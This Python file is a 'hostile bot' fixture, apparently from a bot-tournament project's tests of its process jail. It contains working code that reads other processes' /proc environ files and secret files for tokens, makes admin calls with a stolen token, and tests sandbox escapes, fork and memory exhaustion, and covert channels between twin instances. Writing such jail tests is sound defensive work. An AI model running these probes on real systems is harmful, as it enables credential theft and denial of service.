"""A command bot that tries to read what the referee and the runner hide, then plays randomly.

Usage: python hostile_bot.py REFEREE_DATA RUNNER_DATA PIDS_FILE SOCKET [SDK OPTIONS...]

Once, when its first match starts (so a live match's ``.secret`` exists), it makes every attack
of ATTACKS and prints one line per attack to its log: ``ATTACK {"attack": NAME, "got": TEXT}``,
with ``got`` null and ``error`` saying why when the attack failed. The attacks on the jail's walls
(ESCAPES) use what the test left for them in PIDS_FILE: a TCP port of another local service, an
abstract Unix socket's name, a marker file in /var/tmp and /run/lock, a variable of the runner's
environment.
"""

from __future__ import annotations

import glob
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc

from croupier.clients.bots import RandomBot
from croupier.clients.sdk import Match, main
from croupier.v1 import admin_pb2, admin_pb2_grpc, match_pb2, spectator_pb2, spectator_pb2_grpc

ATTACKS = (
    "results.db",
    "a match's .secret",
    "admin-token",
    "another bot's log",
    "the runner's environ",
    "the runner's cmdline",
    "the referee's environ",
    "the referee's cmdline",
    "another bot's environ",
    "admin call on the Unix socket",
    "a token on a command line",
)
ESCAPES = (
    "TCP to the referee's port",
    "TCP to another local service",
    "eth0 visible",
    "an abstract Unix socket",
    "a file left in /var/tmp",
    "a file left in /run/lock",
    "a world-writable folder of the machine's",
    "uid 0 in a user namespace",
    "no seccomp filter",
    "400 children",
    "1.5 GiB allocated",
    "every core at full priority",
    "the runner's environment",
)
"""The 13 ways out of the first jail (issue #41), each shut by the jail of today."""
CHILDREN = 400
ALLOCATED = 3 << 29
OWN = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/proc", "/sys")
"""Folders a bot writes to that are its own in the jail (or are no folders)."""
REFEREE = DATA = PIDS = SOCKET = Path()
"""Set from the command line."""
found: dict[str, str] = {}


def read(path: str | Path) -> str:
    return Path(path).read_bytes().decode(errors="replace")


def first(pattern: str) -> str:
    matches = glob.glob(pattern)
    if not matches:
        raise LookupError(f"nothing matches {pattern} (or its folder is closed)")
    return matches[0]


def pids() -> dict[str, Any]:
    for _ in range(600):
        if PIDS.exists() and PIDS.read_text().endswith("\n"):
            return dict(json.loads(PIDS.read_text()))
        time.sleep(0.1)
    raise TimeoutError(f"no {PIDS}")


def processes() -> dict[int, list[str]]:
    """Every process this bot can see, with its command line."""
    seen = {}
    for entry in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            seen[int(entry.split("/")[2])] = read(entry).split("\0")
        except OSError:
            continue
    return seen


def other_bots_environ() -> str:
    """The token of the other bot of this tournament (the one on the same referee)."""
    server = f"CROUPIER_SERVER={os.environ['CROUPIER_SERVER']}"
    for pid, argv in processes().items():
        if pid != os.getpid() and "random" in argv and "--strategy" in argv:
            try:
                environ = read(f"/proc/{pid}/environ").split("\0")
            except OSError:
                continue
            if server in environ:
                return next(v for v in environ if v.startswith("CROUPIER_TOKEN="))
    raise LookupError("no other bot in sight")


def admin_call() -> str:
    admin = found.get("admin-token", "").strip() or next(
        (v.partition("=")[2] for v in found.get("the runner's environ", "").split("\0")
         if v.startswith("CROUPIER_ADMIN_TOKEN=")),
        os.environ["CROUPIER_TOKEN"],
    )  # fmt: skip
    with grpc.insecure_channel(f"unix:{SOCKET}") as channel:
        stub = admin_pb2_grpc.AdminServiceStub(channel)
        reply = stub.ListBots(admin_pb2.ListBotsRequest(), metadata=[("croupier-token", admin)], timeout=10)
    return ", ".join(bot.name for bot in reply.bots)


def token_in_argv() -> str:
    token = os.environ["CROUPIER_TOKEN"]
    holders = [pid for pid, argv in processes().items() if any(token in arg for arg in argv)]
    if not holders:
        raise LookupError(f"none of {len(processes())} command lines in sight holds a token")
    return f"processes {holders}"


def tcp(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return f"connected to 127.0.0.1:{port}"


def interfaces() -> str:
    names = {name for _, name in socket.if_nameindex()} - {"lo"}
    if os.path.isdir("/sys/class/net"):
        names.update(set(os.listdir("/sys/class/net")) - {"lo"})
    if not names:
        raise LookupError("no interface but lo")
    return ", ".join(sorted(names))


def abstract(name: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(5)
        client.connect("\0" + name)
        return client.recv(100).decode()


def left_file(folder: str, marker: str) -> str:
    """Writes a file beside the runner's marker; the attack holds where the marker is in sight
    (the folder is the machine's, and the file outlives the bot: the test looks for it too)."""
    Path(folder, marker + ".bot").write_text("left by the hostile bot")
    if not Path(folder, marker).exists():
        raise LookupError(f"{folder} is the bot's own: the runner's marker is not in it")
    return f"{folder}/{marker}.bot beside the runner's marker"


def writable_folders(shared: str) -> str:
    """A folder of the machine's it can write to, outside the ones a jail makes its own: the
    world-writable ``shared`` the runner made, or any it finds."""
    found = []
    try:
        Path(shared, "left-by-the-hostile-bot").write_text("x")
        found.append(shared)
    except OSError:
        pass
    for top in (
        "/",
        "/var",
        "/var/lib",
        "/var/cache",
        "/var/spool",
        "/var/mail",
        "/var/log",
        "/run",
        "/dev",
    ):
        for entry in [top, *glob.glob(f"{top.rstrip('/')}/*")]:
            if (
                os.path.isdir(entry)
                and not os.path.islink(entry)
                and not any(entry == own or entry.startswith(own + "/") for own in OWN)
            ):
                try:
                    Path(entry, ".hostile-probe").touch()
                    Path(entry, ".hostile-probe").unlink()
                    found.append(entry)
                except OSError:
                    continue
    if not found:
        raise LookupError("every folder of the machine's is read-only")
    return ", ".join(found[:5])


def user_namespace_root() -> str:
    done = subprocess.run(["unshare", "-Ur", "id"], capture_output=True, text=True, timeout=30)
    if "uid=0" not in done.stdout:
        raise PermissionError(done.stderr.strip() or f"unshare: exit {done.returncode}")
    return done.stdout.strip()


def seccomp() -> str:
    status = Path("/proc/self/status").read_text()
    mode = status.split("Seccomp:")[1].split()[0]
    if mode != "0":
        raise PermissionError(f"Seccomp: {mode}")
    return "Seccomp: 0"


CHILDREN_SCRIPT = f"""
import os, signal, sys, time
started = []
try:
    for _ in range({CHILDREN}):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        started.append(pid)
except OSError as exc:
    print(len(started), "children, then", exc)
    sys.exit(1)
finally:
    for pid in started:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
print(len(started), "children")
"""
ALLOCATING_SCRIPT = f"""
import sys
try:
    block = bytearray({ALLOCATED})
    block[::4096] = b"x" * len(block[::4096])
except MemoryError:
    print("MemoryError")
    sys.exit(1)
print({ALLOCATED >> 20}, "MiB allocated and touched")
"""


def in_a_process(script: str) -> str:
    """Runs ``script`` in a Python of its own (a fork of this one would copy gRPC's threads)."""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    said = (done.stdout + done.stderr).strip() or f"killed by signal {-done.returncode}"
    if done.returncode != 0:
        raise OSError(said.splitlines()[-1])
    return said


def children() -> str:
    """As many sleeping children as it can start, up to CHILDREN."""
    return in_a_process(CHILDREN_SCRIPT)


def allocated() -> str:
    """1.5 GiB, every page touched (the kernel kills what overruns a cgroup's limit)."""
    return in_a_process(ALLOCATING_SCRIPT)


def every_core() -> str:
    """Every core of the machine, at the priority of everyone else's processes."""
    errors = []
    for attempt in (
        lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, 0, 0),
    ):
        try:
            attempt()
        except OSError as exc:
            errors.append(repr(exc))
    cores, nice = len(os.sched_getaffinity(0)), os.getpriority(os.PRIO_PROCESS, 0)
    if cores < (os.cpu_count() or 1) or nice > 0:
        raise PermissionError(f"{cores} core(s) of {os.cpu_count()} at nice {nice}: {'; '.join(errors)}")
    return f"{cores} cores at nice {nice}"


def environment(name: str) -> str:
    if name not in os.environ:
        raise LookupError(f"no {name}: the bot's environment holds {', '.join(sorted(os.environ))}")
    return f"{name}={os.environ[name]}"


def attacks() -> dict[str, Callable[[], str]]:
    known = pids()
    return {
        "results.db": lambda: read(DATA / "results.db")[:15],
        "a match's .secret": lambda: read(first(f"{REFEREE}/matches/*.secret")),
        "admin-token": lambda: read(REFEREE / "admin-token"),
        "another bot's log": lambda: read(first(f"{DATA}/logs/*/random.log")),
        "the runner's environ": lambda: read(f"/proc/{known['runner']}/environ"),
        "the runner's cmdline": lambda: read(f"/proc/{known['runner']}/cmdline"),
        "the referee's environ": lambda: read(f"/proc/{known['referee']}/environ"),
        "the referee's cmdline": lambda: read(f"/proc/{known['referee']}/cmdline"),
        "another bot's environ": other_bots_environ,
        "admin call on the Unix socket": admin_call,
        "a token on a command line": token_in_argv,
        "TCP to the referee's port": lambda: tcp(known["port"]),
        "TCP to another local service": lambda: tcp(known["service"]),
        "eth0 visible": interfaces,
        "an abstract Unix socket": lambda: abstract(known["abstract"]),
        "a file left in /var/tmp": lambda: left_file("/var/tmp", known["marker"]),
        "a file left in /run/lock": lambda: left_file("/run/lock", known["marker"]),
        "a world-writable folder of the machine's": lambda: writable_folders(known["shared"]),
        "uid 0 in a user namespace": user_namespace_root,
        "no seccomp filter": seccomp,
        "400 children": children,
        "1.5 GiB allocated": allocated,
        "every core at full priority": every_core,
        "the runner's environment": lambda: environment(known["variable"]),
    }


TWIN_CHANNELS = (
    "an abstract socket to its twin",
    "a file from its twin in /tmp",
    "a file from its twin in /var/tmp",
    "a file from its twin in /run/lock",
    "a file from its twin in /dev/shm",
    "a signal to its twin",
    "its twin's live match watched",
)
"""How two instances of one bot (processes = "per_rotation") try to talk, all at once."""
WINDOW = 15.0
"""How long each channel waits for the twin (the instances start their matches together)."""
signalled: list[int] = []


def twin_socket(name: str, me: str) -> str:
    """The first to bind the abstract name listens, the second connects: they swap names."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(WINDOW)
        try:
            sock.bind("\0" + name)
        except OSError:
            sock.connect("\0" + name)
            sock.sendall(me.encode())
            return sock.recv(100).decode()
        sock.listen(1)
        peer, _ = sock.accept()
        with peer:
            peer.sendall(me.encode())
            return peer.recv(100).decode()


def twin_file(folder: str, name: str, me: str) -> str:
    """Leaves its name (a hand, in a real collusion) in ``folder``, then looks for its twin's."""
    Path(folder, f"{name}.{me}").write_text(me)
    deadline = time.monotonic() + WINDOW
    while time.monotonic() < deadline:
        for path in glob.glob(f"{folder}/{name}.*"):
            if not path.endswith(f".{me}"):
                return read(path)
        time.sleep(0.2)
    raise LookupError(f"no file of its twin's in {folder}")


def twin_signal() -> str:
    """SIGUSR1 to every process running this script but itself (so never to a launcher)."""
    deadline = time.monotonic() + WINDOW
    sent: set[int] = set()
    while time.monotonic() < deadline and not signalled:
        for pid, argv in processes().items():
            if pid != os.getpid() and len(argv) > 1 and argv[1].endswith("hostile_bot.py"):
                try:
                    os.kill(pid, signal.SIGUSR1)
                    sent.add(pid)
                except OSError:
                    continue
        time.sleep(0.2)
    if not sent and not signalled:
        raise LookupError("no twin in sight to signal, and no signal from one")
    return f"signalled {sorted(sent)}, signalled by its twin {len(signalled)} time(s)"


def twin_match(mine: str) -> str:
    """Its twin in an anonymous ListMatches (the other live match of an instance of this bot,
    not the match ``mine``), and that match's frames: the twin's cards."""
    server = os.environ["CROUPIER_SERVER"]
    with grpc.insecure_channel(server) as channel:
        stub = spectator_pb2_grpc.SpectatorServiceStub(channel)
        seen: dict[str, list[str]] = {}
        deadline = time.monotonic() + WINDOW
        while time.monotonic() < deadline:
            listed = stub.ListMatches(
                spectator_pb2.ListMatchesRequest(status=match_pb2.MATCH_STATUS_RUNNING), timeout=10
            )
            for match in listed.matches:
                names = [player.name for player in match.players]
                seen[match.match_id] = names
                if match.match_id != mine and "hostile" in names:  # the instances share the name
                    request = spectator_pb2.WatchMatchRequest(match_id=match.match_id, from_start=True)
                    frame = next(iter(stub.WatchMatch(request, timeout=10)))
                    return f"match {match.match_id} of {names}: {str(frame)[:100]}"
            time.sleep(0.5)
    raise LookupError(f"no live match of its twin's among those listed: {seen} (its own: {mine})")


def twin_channels(me: str, name: str, mine: str) -> dict[str, Callable[[], str]]:
    folders = ("/tmp", "/var/tmp", "/run/lock", "/dev/shm")
    files = {f"a file from its twin in {f}": lambda f=f: twin_file(f, name, me) for f in folders}  # type: ignore[misc]
    return {
        "an abstract socket to its twin": lambda: twin_socket(name, me),
        **files,
        "a signal to its twin": twin_signal,
        "its twin's live match watched": lambda: twin_match(mine),
    }


def report(name: str, attack: Callable[[], str]) -> None:
    try:
        found[name] = attack()
    except Exception as exc:  # every way an attack fails is a line of the log
        line = {"attack": name, "got": None, "error": repr(exc)}
    else:
        line = {"attack": name, "got": found[name][:200]}
    # one write a line: unjailed twins may share a log, and print's pieces interleaved
    # ("ATTACK ATTACK {...}") when Python wrote unbuffered
    sys.stdout.write(f"ATTACK {json.dumps(line)}\n")
    sys.stdout.flush()


class HostileBot(RandomBot):
    def __init__(self, match: Match) -> None:
        super().__init__(match)
        if found:
            return
        known = pids()
        if known.get("twins"):  # one of a bot's instances: to its twin first, while both start
            me = os.environ["CROUPIER_TOKEN"][-8:]  # each instance has a token of its own
            channels = twin_channels(me, f"croupier-twins-{known['marker']}", match.id)
            threads = [threading.Thread(target=report, args=item) for item in channels.items()]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
        for name, attack in attacks().items():
            report(name, attack)


if __name__ == "__main__":
    signal.signal(signal.SIGUSR1, lambda signum, frame: signalled.append(signum))
    REFEREE, DATA, PIDS, SOCKET = (Path(arg).absolute() for arg in sys.argv[1:5])
    del sys.argv[1:5]
    main(HostileBot)
